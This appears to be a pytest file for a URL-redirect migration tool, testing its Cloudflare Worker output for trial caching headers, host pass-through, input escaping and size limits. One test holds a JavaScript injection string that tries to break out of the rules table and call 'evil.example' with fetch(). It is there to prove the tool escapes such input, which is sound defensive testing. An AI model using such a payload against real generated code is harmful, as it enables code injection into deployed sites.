"""Particulars of the Cloudflare Worker: what it passes on, what a trial sends, how much it holds."""

from __future__ import annotations

from dataclasses import replace

import pytest

from migrator import registry
from migrator.errors import TargetLimitError
from migrator.model import RedirectRule
from migrator.prove.engine import ask_server, found_binary
from migrator.redirects.proof import Case
from migrator.redirects.targets import cloudflare_worker
from migrator.stages.proving import emitted

from .samples import NEW, OLD_HOST, compiled

WORKER = registry.load("target", "cloudflare-worker")


def _rule(path: str, **changes: object) -> RedirectRule:
    return RedirectRule(**{"host": OLD_HOST, "path": path, "target": f"{NEW}/x/", **changes})


def _asked(rules, *cases: Case):
    if found_binary("node") is None:
        pytest.skip("node is not installed")
    return ask_server(WORKER.engine(None), emitted(WORKER, rules), cases, lambda _count: None)


@pytest.mark.engine
def test_a_trial_forbids_everybody_to_keep_the_answer() -> None:
    rules = replace(compiled().rules, rules=(_rule("/a"),), trial=True)
    (reply,) = _asked(rules, Case(OLD_HOST, "/a"))
    assert (reply.status, reply.values("cache-control")) == (302, ("no-store",))


@pytest.mark.engine
def test_foreign_hosts_and_the_new_sites_own_pages_are_passed_on() -> None:
    own = replace(compiled().rules, rules=(_rule("/a"),), new_url=f"https://{OLD_HOST}")
    replies = _asked(own, Case("other.example", "/a"), Case(OLD_HOST, "/new-page/"), Case(OLD_HOST, "/a"))
    assert [reply.status for reply in replies] == [404, 404, 301]
    assert [reply.values("content-type") for reply in replies[:2]] == [(), ()]


def test_what_stands_in_an_address_cannot_end_the_table() -> None:
    hostile = _rule('/"]]]);fetch("//evil.example")//\u2028', old="")
    text = emitted(WORKER, replace(compiled().rules, rules=(hostile,)))["rules.mjs"].decode()
    assert 'fetch("' not in text
    assert "\u2028" not in text
    assert text.count("\n") == 8


def test_more_than_a_worker_holds_is_an_error_that_names_another_target(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(cloudflare_worker, "_LARGEST", 100)
    with pytest.raises(TargetLimitError) as caught:
        emitted(WORKER, compiled().rules)
    assert "cloudflare-bulk" in caught.value.hint
